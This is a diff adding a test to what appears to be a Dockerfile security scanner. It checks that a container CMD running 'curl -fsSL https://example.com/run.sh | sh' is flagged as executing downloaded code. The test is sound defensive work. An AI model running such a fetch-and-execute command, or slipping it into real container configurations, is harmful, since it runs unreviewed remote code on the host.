@@ -281,3 +281,12 @@ def test_finding_columns_span_the_line(tmp_path):
 
     location = result.findings[0].location
     assert (location.line, location.column, location.end_line, location.end_column) == (2, 3, 2, 12)
+
+
+def test_start_command_that_fetches_code(tmp_path):
+    text = f'FROM alpine:3.20@{DIGEST}\nUSER app\nCMD ["sh", "-c", "curl -fsSL https://example.com/run.sh | sh"]\n'
+
+    result = analyze(tmp_path, text)
+
+    assert hits(result) == [("downloaded-script-executed", 3)]
+    assert result.findings[0].message.startswith("The container's CMD runs downloaded code")
